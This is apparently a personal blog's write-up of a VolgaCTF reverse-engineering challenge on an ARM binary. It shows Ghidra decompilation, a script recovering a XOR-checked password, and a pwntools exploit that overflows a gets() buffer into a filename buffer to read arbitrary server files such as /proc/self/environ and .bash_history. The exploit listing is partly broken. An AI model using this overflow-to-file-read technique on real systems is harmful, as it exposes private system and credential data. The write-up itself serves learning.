ARM reverse enginering.

Write up for Volga ctf warm challenge.

Given was a stripped ARM elf binary, a server address and port to connect to.
This was my first time reverse engineering something written for a ARM architecture. I knew that hopper and ghidra can handle arm binaries, but I had to read up a bit on how toset up a testing environment for debugging.

I ended up using Ghidra to reverse engineer, Qemu as emulator and gdb-multiarch to debug.

the Reverse engineering.

I load the file up in ghidra and browse though the dissassembled code.
while renaming functions and variables.


undefined4 mainthing(void)

  int iVar1;
  int __c;
  FILE *__stream;
  byte given_passwd [100];
  char filename [100];
  iVar1 = __stack_chk_guard;setvbuf(stdout,(char *)0x0,2,0);
  while( true ) {
    while( true ) {
      puts("Hi there! I\'ve been waiting for your password!");
      gets((char *)given_passwd);
      __c = passwordcheck(given_passwd);
      if (__c == 0) break;
    __stream = fopen(filename,"rb");
    if (__stream != (FILE *)0x0) break;
  while (__c = _IO_getc((_IO_FILE *)__stream), __c != -1) {
  if (iVar1 == __stack_chk_guard) {
    return 0;
                    /* WARNING: Subroutine does not return */

The buffer for the given_passwd is 100bytes and the input is fetched using gets instead of fgets on stdin in witch you can set the amount of bytes you want to read. Resulting in a classic overflow vulnerability. But there is a stack canary set and checked and we will overwrite this if we try to overflow into a return pointer. So lets look a little further down the road.

The password gets passed to passwordcheck() and if it returns anything other than 0 will break out of the loop and calls the error_handle_thing() function with 1,0 as arguments.

if the passwordcheck returns 0 it will try to open the file filename, if it can’t be opened error_handle_thing() gets called with 2 andfilename as arguments.
otherwise it will write it’s contents to stdout.


undefined4 passwordcheck(byte *passw)

  size_t sVar1;
  undefined4 uVar2;
  sVar1 = strlen((char *)passw);
  if (sVar1 < 0x10) {
    uVar2 = 1;
  else{
    if (((((*passw == 0x76) && ((passw[1] ^ *passw) == 0x4e)) && ((passw[2] ^ passw[1]) == 0x1e)) &&
        ((((passw[3] ^ passw[2]) == 0x15 && ((passw[4] ^ passw[3]) == 0x5e)) &&
         (((passw[5] ^ passw[4]) == 0x1c &&
          (((passw[6] ^ passw[5]) == 0x21 && ((passw[7] ^ passw[6]) == 1)))))))) &&
       (((passw[8] ^ passw[7]) == 0x34 &&
        ((((((passw[9] ^ passw[8]) == 7 && ((passw[10] ^ passw[9]) == 0x35)) &&
           ((passw[0xb] ^ passw[10]) == 0x11)) &&(((passw[0xc] ^ passw[0xb]) == 0x37 && ((passw[0xd] ^ passw[0xc]) == 0x3c)))) &&
         (((passw[0xe] ^ passw[0xd]) == 0x72 && ((passw[0xf] ^ passw[0xe]) == 0x47)))))))) {
      uVar2 = 0;
    else {
      uVar2 = 2;
  return uVar2;

This function has one argument (the password) and 3 return values.
if the the argument is smaller than 0x10 it will return 1,
if the password matches all these xor conditions it will return 0
and if not it will return 2.

So lets have a good look at all these conditions the password have to meet.
the first byte has to be 0x76 (‘v’ in ascii)
the second byte gets xored with the first one and has to be equal to 0x4e
the 3th gets xored with the second and has to equal 0x1e.
and so onand so on..
all characters get xored with the previous one and gets checked with a static value.

A^B = C we have C and xor is reverseable like so A^C = B
We know that the first character value is 0x76.
so let’s make a little script to recover the password.

A = 0x76
C_list = [0x4e, 0x1e, 0x15, 0x5e, 0x1c, 0x21, 0x01, 0x34, 0x07, 0x35, 0x11, 0x37, 0x3c, 0x72, 0x47]


for C in C_list:
    B = A^C
    A = B
    password = password+chr(A)


if werun the script we get the password v8&3mqPQebWFqM?x
note that the function only checks if the length is not smaller than 0x10.
So, as long and only the fist 16 charters gets checked.
If we append our recovered password with some more bytes the passwordcheck() function will still return 0.


void flag_filename_on_stack(char *pcParm1)

  char *envionflag;
  undefined4 flag;
  undefined local_24;
  undefined4 FLAG;
  undefined4 _FIL;
  undefined2 E;
  int local_14;
  local_14 = __stack_chk_guard;
  FLAG = 0x47414c46;
  _FIL = 0x4c49465f;E = 0x45;
  envionflag = getenv((char *)&FLAG);
  flag = 0x67616c66;
  local_24 = 0;
  if (envionflag == (char *)0x0) {
    strcpy(pcParm1,(char *)&flag);
  else {
  if (local_14 != __stack_chk_guard) {
                    /* WARNING: Subroutine does not return */

What happens here is that if the environment value FLAG is set it will get that and place it on the memory address given as argument.
and if the environment value FLAG is not there it will place ‘flag’ on that memory address.


There is a buffer overflow in passwd but, It looks like everything is set up to print the flag if the right password is provided.


Having recovered the password I connect to the server using nc and send the password hoping to receive a flag.

No such luck.
It accepted my recovered password but returned the string:Seek file with something more sacred!

nc 443


We can not overwrite a return pointer without overwriting the stack canary and making the stack check fail.
but if we look at the placement of filename and passwd buffers. we see that filename is placed right after passwd on the stack.

             char[100]         Stack[-0x78]   filename
             byte[100]         Stack[-0xdc]   given_passwd

If we would overflow passwd we can write into the filename that gets printed further down the main fucntion.

Lets do that and make a little script to help us.

# -*- coding: utf-8 -*-
from pwn import *
context.log_level = 'info'
target = ""
port = 443
password = "v8&3mqPQebWFqM?x"
buffer= "A"*(100-len(password))
# Xploit
io = remote(target,port)
while 1:
        filename = raw_input("filename or quit:")
        if filename == "quit":
        log.warning("connection dropped")
        io = remote(target,port)


The exploit works like a charm.
The only problem is that without being able to use wildcards or get a directory listing, there is a lot of guess work involved.

The first thing I did was check for a flag file. It was there, it contained the string that was printed when we just provide the password without overflowing.

Then I checked en environmet values by taking a look at /proc/self/environ I though maybe they hide a clue there since the flag_filename_on_stack() checksif the value FLAG is set in environment.

Also no luck.

After some time trying to find the flag in all sort of places or try to find hints of were the flag might be hiding in places like /home/ubuntu/.bash_history

I decided to pipe a wordlist of linux file paths to stdin of the script en piped the output to a file witch I grep for a flag formatted strings also no results. I grep for base64 endcoded stuff, no luck there as well.

Then I scrolled trough 1000’s of lines of config files and other junk by hand looking for something that could be hiding a flag.

After a lot of frustration I check the code again to see if I’ve missed something. look for a way to leak the stack canary. I can get the base-offset of the bin stack heap and libc by leaking /proc/self/maps
but i could not find a way to get around the stack canary and use the ret to libc method to pop a shell.

At this point sunshineCTF was started, so I left VolgaCTF for what it was.(no fun and a heaping pile of s….frustration)

This morning I read in a write-up about this challenge that the flag was in the afile named sacred ..

Seek file with something more sacred!

nc 443

So yeah, there was a hint in the flag file that I did not get,
but I think they are a bunch of@$$#*!€$ !!!!!

Also; Big props to the NSA for releasing Ghidra to the public.
the disassembly is so good, I din’t even had to look at instruction listing much and the arm architecture guide not even once,even though i’m not so familiar with the ARM instruction set.
America 1 – Russia 0

Geef een reactie

Het e-mailadres wordt niet gepubliceerd.Vereiste velden zijn gemarkeerd met *